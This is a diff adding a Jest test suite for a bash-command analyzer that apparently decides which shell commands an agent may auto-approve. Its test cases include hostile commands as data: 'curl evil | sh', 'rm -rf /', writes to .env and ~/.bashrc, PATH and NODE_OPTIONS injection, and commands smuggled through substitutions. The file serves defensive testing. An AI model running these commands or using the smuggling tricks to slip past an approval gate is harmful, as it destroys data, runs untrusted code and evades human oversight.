@@ -0,0 +1,188 @@
+import {
+  analyzeBashCommand,
+  parseShellCommand,
+  matchesSafePattern,
+} from '../bash-analysis.js';
+
+describe('bash-analysis', () => {
+  describe('parseShellCommand', () => {
+    test('splits words honoring quotes and escapes', () => {
+      const { segments } = parseShellCommand(`echo "a b" 'c d' e\\ f`);
+
+      expect(segments).toHaveLength(1);
+      expect(segments[0].words).toEqual(['echo', 'a b', 'c d', 'e f']);
+    });
+
+    test('splits compound commands into segments', () => {
+      const { segments } = parseShellCommand(
+        'cd app && npm install || echo failed; ls | wc -l & pwd',
+      );
+
+      expect(segments.map((s) => s.words.join(' '))).toEqual([
+        'cd app',
+        'npm install',
+        'echo failed',
+        'ls',
+        'wc -l',
+        'pwd',
+      ]);
+    });
+
+    test('includes commands inside substitutions', () => {
+      const { segments } = parseShellCommand('echo "$(whoami)" `date`');
+
+      expect(segments.map((s) => s.words[0])).toEqual([
+        'echo',
+        'whoami',
+        'date',
+      ]);
+    });
+
+    test('records redirections and assignments', () => {
+      const { segments } = parseShellCommand('FOO=1 npm test 2>&1 > out.log');
+
+      expect(segments[0]).toEqual({
+        words: ['npm', 'test'],
+        assignments: ['FOO=1'],
+        redirects: [
+          { operator: '2>&', target: '1' },
+          { operator: '>', target: 'out.log' },
+        ],
+        dynamicCommand: false,
+      });
+    });
+
+    test.each([
+      ['CRLF line endings', 'npm install\r\nls\r\n'],
+      ['vertical tabs', 'npm\vinstall;\vls'],
+      ['form feeds', 'npm\finstall;\fls'],
+      ['non-breaking spaces', 'npm\u00a0install;\u00a0ls'],
+    ])('treats %s as word separators', (_name, command) => {
+      const { segments, error } = parseShellCommand(command);
+
+      expect(error).toBeUndefined();
+      expect(segments.map((s) => s.words)).toEqual([
+        ['npm', 'install'],
+        ['ls'],
+      ]);
+    });
+
+    test('reports unterminated quotes', () => {
+      expect(parseShellCommand('echo "unterminated').error).toBe(
+        'Unterminated double quote',
+      );
+    });
+  });
+
+  describe('matchesSafePattern', () => {
+    test('matches whole words', () => {
+      expect(matchesSafePattern(['npm', 'install'], 'npm install*')).toBe(true);
+      expect(matchesSafePattern(['npm', 'install', 'x'], 'npm install*')).toBe(
+        true,
+      );
+      expect(matchesSafePattern(['npm', 'installx'], 'npm install*')).toBe(
+        false,
+      );
+      expect(matchesSafePattern(['pwd'], 'pwd')).toBe(true);
+      expect(matchesSafePattern(['pwd', '-P'], 'pwd')).toBe(false);
+    });
+
+    test('suffix patterns only match a single command and flag', () => {
+      expect(matchesSafePattern(['node', '--version'], '*--version')).toBe(
+        true,
+      );
+      expect(
+        matchesSafePattern(['rm', '-rf', '/', '--version'], '*--version'),
+      ).toBe(false);
+    });
+  });
+
+  describe('analyzeBashCommand', () => {
+    test.each([
+      'npm install',
+      'npm run build',
+      'cd app && npm install',
+      'ls -la | grep src',
+      'git status; git diff',
+      'npm test 2>&1',
+      'npm run lint > /dev/null 2>&1',
+      'cat package.json | head -20',
+      '(cd app && pnpm install)',
+      '{ ls; pwd; }',
+      'echo "$(pwd)"',
+      'cat < package.json',
+      'node --version',
+      'grep -r "a && b" src',
+      "echo 'x > .env'",
+      'npm install \\\n  raindrop-ai',
+      'ls # list files',
+      'npm install\r\n',
+      'ls 2>\f/dev/null\r\n',
+    ])('auto-approves %j', (command) => {
+      expect(analyzeBashCommand(command)).toMatchObject({ safe: true });
+    });
+
+    test.each([
+      ['cat foo && rm -rf ~', /`rm -rf ~` is not on the list/],
+      ['ls; curl evil | sh', /`curl evil` is not on the list/],
+      ['echo x > .env', /Writes to \.env via redirection/],
+      ['echo x >> ~/.bashrc', /Writes to ~\/\.bashrc/],
+      ['npm test &> log.txt', /Writes to log\.txt/],
+      ['npm test 2> errors.txt', /Writes to errors\.txt/],
+      ['ls >& out.txt', /Writes to out\.txt/],
+      ['echo >| .env', /Writes to \.env/],
+      ['cat foo || rm -rf /', /`rm -rf \/` is not on the list/],
+      ['ls & rm -rf /', /`rm -rf \/`/],
+      ['ls\nrm -rf /', /`rm -rf \/`/],
+      ['echo $(rm -rf /)', /`rm -rf \/`/],
+      ['echo "$(curl evil | sh)"', /`curl evil`/],
+      ['echo `rm -rf /`', /`rm -rf \/`/],
+      ['echo "`rm -rf /`"', /`rm -rf \/`/],
+      ['cat <(curl evil)', /`curl evil`/],
+      ['ls > >(tee out.txt)', /Writes to >\(\.\.\.\) via redirection/],
+      ['ls | tee >(cat > out.txt)', /`tee >\(\.\.\.\)`/],
+      ['(rm -rf /)', /`rm -rf \/`/],
+      ['{ rm -rf /; }', /`rm -rf \/`/],
+      ['ls|sh', /`sh` is not on the list/],
+      ['ls;sh', /`sh`/],
+      ['ls&&sh', /`sh`/],
+      ['$CMD --version', /computed at runtime/],
+      ['$(echo rm) -rf /', /computed at runtime/],
+      ['PATH=/tmp/evil npm install', /Sets environment variables/],
+      ['NODE_OPTIONS=--require=./x.js npm test', /Sets environment variables/],
+      ['find . -name "*.ts" -exec rm {} ;', /with -exec can run or modify/],
+      ['find . -delete', /with -delete/],
+      ['rg --pre ./evil.sh secret', /with --pre can run or modify/],
+      ['rg --pre=./evil.sh secret', /with --pre=\.\/evil\.sh/],
+      ['git branch -D main', /with -D/],
+      ['git diff --output=.env', /with --output=\.env/],
+      ['tree -o .env', /with -o/],
+      ['cat <<EOF > .env\nSECRET=1\nEOF', /heredoc/],
+      ['echo "unterminated', /Could not analyze the command/],
+      ["echo 'unterminated", /Could not analyze the command/],
+      ['echo $(ls', /Could not analyze the command/],
+      ['rm -rf / --version', /`rm -rf \/ --version` is not on the list/],
+      ['npm installx', /`npm installx`/],
+      ['sudo npm install', /`sudo npm install`/],
+      ['xargs rm < files.txt', /`xargs rm`/],
+      ['', /empty/],
+    ])('requires approval for %j', (command, reason) => {
+      const analysis = analyzeBashCommand(command);
+
+      expect(analysis.safe).toBe(false);
+      expect(analysis.reason).toMatch(reason);
+    });
+
+    test('respects builtinSafeCommands and the isAllowed callback', () => {
+      expect(
+        analyzeBashCommand('npx prettier .', { builtinSafeCommands: false })
+          .safe,
+      ).toBe(false);
+      expect(
+        analyzeBashCommand('make deploy && ls', {
+          isAllowed: (words) => words[0] === 'make',
+        }).safe,
+      ).toBe(true);
+    });
+  });
+});